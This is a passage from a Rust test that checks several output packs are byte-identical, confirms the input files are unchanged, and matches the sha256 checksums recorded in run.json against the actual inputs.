            "{label} vs {first_label}: file lists"
        );
        for (name, bytes) in first {
            assert!(
                pack[name] == *bytes,
                "{name} differs between {first_label} and {label}"
            );
        }
    }
    assert_eq!(checksums(&period), before, "inputs unchanged");
    // run.json records the checksum of every input as read.
    let run: Value = serde_json::from_slice(&first["run.json"]).expect("run.json");
    let recorded: BTreeMap<String, String> = run["files"]
        .as_array()
        .expect("files in run.json")
        .iter()
        .map(|f| {
            let file = f["file"].as_str().unwrap_or_default();
            let rel = file.strip_prefix("2026-11/").unwrap_or(file).to_string();
            (rel, f["sha256"].as_str().unwrap_or_default().to_string())
        })
        .collect();
    assert_eq!(recorded, before, "run.json's input checksums");
}
